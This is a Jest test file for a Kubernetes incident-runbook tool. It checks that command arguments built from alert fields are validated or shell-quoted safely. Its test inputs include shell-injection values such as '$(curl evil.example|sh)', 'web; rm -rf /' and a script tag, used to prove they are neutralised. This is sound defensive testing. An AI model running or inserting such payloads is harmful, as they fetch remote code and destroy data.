import { execFileSync } from 'node:child_process';
import { CATALOG } from '../detections/catalog';
import { commandArguments } from './commands';
import { parseRunbookContext } from './context';
import { runbookSubject } from './subject';

const NOW = Date.parse('2025-03-01T12:00:00Z');

function argumentsFor(detectionId: string, values: Record<string, string>) {
  const detection = CATALOG.find((candidate) => candidate.id === detectionId)!;
  const context = parseRunbookContext(new URLSearchParams(values), NOW);
  return commandArguments(context, runbookSubject(detection, context));
}

const CRAFTED = {
  substitution: '$(curl evil.example|sh)',
  backticks: '`id`',
  semicolon: 'web; rm -rf /',
  newline: 'web\nrm -rf /',
  quote: "web' ; id ; '",
  script: '<script>alert(1)</script>',
};

describe('commandArguments', () => {
  test('fills valid names in quotes', () => {
    const args = argumentsFor('falco-shell-in-container', {
      namespace: 'prod',
      pod: 'web-1',
      node: 'node-1.internal',
      container: 'app',
    });
    expect(args.namespace.word).toBe("'prod'");
    expect(args.pod.word).toBe("'web-1'");
    expect(args.node.word).toBe("'node-1.internal'");
    expect(args.container.word).toBe("'app'");
    expect(args.node.known).toBe(true);
    expect(args.warnings).toEqual([]);
  });

  test('uses placeholders without values', () => {
    const args = argumentsFor('k8s-privileged-container', {});
    expect(args.namespace.word).toBe('<namespace>');
    expect(args.pod.word).toBe('<pod>');
    expect(args.user.word).toBe('<user>');
    expect(args.node.known).toBe(false);
    expect(args.warnings).toEqual([]);
  });

  test('takes the pod from the name of a pod request', () => {
    const args = argumentsFor('k8s-exec-attach', { namespace: 'prod', resource: 'pods', name: 'web-1' });
    expect(args.pod.word).toBe("'web-1'");
  });

  test.each(Object.entries(CRAFTED))('turns a crafted pod name (%s) into a placeholder', (_name, value) => {
    const args = argumentsFor('k8s-privileged-container', { namespace: 'prod', pod: value });
    expect(args.pod.word).toBe('<pod>');
    expect(args.warnings).toHaveLength(1);
    expect(args.warnings[0]).toContain('is not a valid Kubernetes pod name');
  });

  test.each(Object.entries(CRAFTED))('quotes a crafted user (%s) as one shell word', (_name, value) => {
    const args = argumentsFor('k8s-privileged-container', { user: value });
    const echoed = execFileSync('/bin/sh', ['-c', `printf %s ${args.user.word}`], { encoding: 'utf8' });
    expect(echoed).toBe(value);
  });

  test('drops the port of a scrape address', () => {
    const args = argumentsFor('container-without-pod', { image: 'alpine', name: 'miner', node: '10.0.0.5:10250' });
    expect(args.node.word).toBe("'10.0.0.5'");
    expect(args.warnings).toHaveLength(1);
    expect(args.warnings[0]).toContain('is a scrape address');
  });

  test('rejects an IPv6 scrape address', () => {
    const args = argumentsFor('container-without-pod', { image: 'alpine', name: 'miner', node: '[fd00::1]:10250' });
    expect(args.node.word).toBe('<node>');
    expect(args.warnings[0]).toContain('is not a valid Kubernetes node name');
  });

  test('accepts RBAC names with colons', () => {
    const args = argumentsFor('k8s-cluster-admin-binding', {
      resource: 'clusterrolebindings',
      name: 'system:node-proxier',
    });
    expect(args.name.word).toBe("'system:node-proxier'");
    expect(args.warnings).toEqual([]);
  });

  test('rejects an RBAC name with a slash', () => {
    const args = argumentsFor('k8s-cluster-admin-binding', { resource: 'clusterrolebindings', name: 'a/b' });
    expect(args.name.word).toBe('<name>');
    expect(args.warnings[0]).toContain('is not a valid Kubernetes ClusterRoleBinding name');
  });

  test('checks workload names as DNS subdomains', () => {
    const args = argumentsFor('k8s-workload-image-changed', {
      namespace: 'prod',
      resource: 'deployments',
      name: 'API',
    });
    expect(args.name.word).toBe('<name>');
    expect(args.warnings[0]).toContain('Deployment name');
  });

  test('reads a runtime container name for a container without pod', () => {
    const args = argumentsFor('docker-unmanaged-container', { container: 'k8s_POD_Miner.1', image: 'alpine' });
    expect(args.runtimeContainer.word).toBe("'k8s_POD_Miner.1'");
    expect(args.warnings).toEqual([]);
  });

  test.each(Object.entries(CRAFTED))('turns a crafted runtime name (%s) into a placeholder', (_name, value) => {
    const args = argumentsFor('container-without-pod', { image: 'alpine', name: value });
    expect(args.runtimeContainer.word).toBe('<container>');
    expect(args.warnings[0]).toContain('is not a name a container runtime accepts');
  });

  test('finds the service account in the user name', () => {
    const args = argumentsFor('k8s-privileged-container', { user: 'system:serviceaccount:ci:deployer' });
    expect(args.serviceAccount?.namespace.word).toBe("'ci'");
    expect(args.serviceAccount?.name.word).toBe("'deployer'");
  });

  test('treats other users as users', () => {
    expect(argumentsFor('k8s-privileged-container', { user: 'alice' }).serviceAccount).toBeUndefined();
    expect(
      argumentsFor('k8s-privileged-container', { user: 'system:serviceaccount:Bad:x' }).serviceAccount
    ).toBeUndefined();
  });

  test('rejects a crafted resource', () => {
    const args = argumentsFor('k8s-events-deleted', { resource: 'events; id', name: 'e1' });
    expect(args.resource.word).toBe('<resource>');
  });
});
